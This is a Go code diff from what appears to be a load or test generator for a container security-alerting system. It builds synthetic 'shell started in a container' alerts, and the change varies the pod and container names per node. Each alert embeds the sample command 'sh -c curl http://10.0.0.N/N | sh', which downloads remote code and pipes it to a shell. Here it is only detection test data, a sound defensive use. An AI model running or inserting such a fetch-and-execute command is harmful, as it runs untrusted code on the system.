@@ -98,12 +98,12 @@ func (all *agents) raise(s settings, lasts time.Duration) {
 // raise puts one alert into the spool, as large as those of rules commonly are.
 func (a *agent) raise(i int, group string) error {
 	command := fmt.Sprintf("sh -c curl http://10.0.0.%d/%d | sh", i%250, i)
-	pod := fmt.Sprintf("web-%d", i%50)
+	pod, container := fmt.Sprintf("web-%s-%d", a.node, i%50), fmt.Sprintf("3f2a9c%s%d", a.node, i%50)
 	one := alert.Alert{
 		ID: alert.NewID(event.Syscall, fmt.Sprint(a.node, i), "Shell"), Time: time.Now(), Rule: "Shell", Priority: alert.Warning, Source: event.Syscall, Hostname: a.node,
-		Output: "12:00:00.000000000: Warning A shell was started in a container (parent=runc container=3f2a9c01d7be image=registry.example.org/shop/web namespace=shop pod=" + pod + " command=" + command + ")",
+		Output: "12:00:00.000000000: Warning A shell was started in a container (parent=runc container=" + container + " image=registry.example.org/shop/web namespace=shop pod=" + pod + " command=" + command + ")",
 		OutputFields: map[string]any{
-			"proc.cmdline": command, "proc.exepath": "/usr/bin/sh", "evt.time": time.Now().UnixNano(), "container.id": "3f2a9c01d7be", "k8s.pod.name": pod, "k8s.ns.name": "shop",
+			"proc.cmdline": command, "proc.exepath": "/usr/bin/sh", "evt.time": time.Now().UnixNano(), "container.id": container, "k8s.pod.name": pod, "k8s.ns.name": "shop",
 			"container.image.repository": "registry.example.org/shop/web", "user.name": "root", "proc.pname": "runc", "case": group,
 		},
 		Tags: []string{"container", "mitre_execution", "T1059"}, Tactics: []string{"execution"},
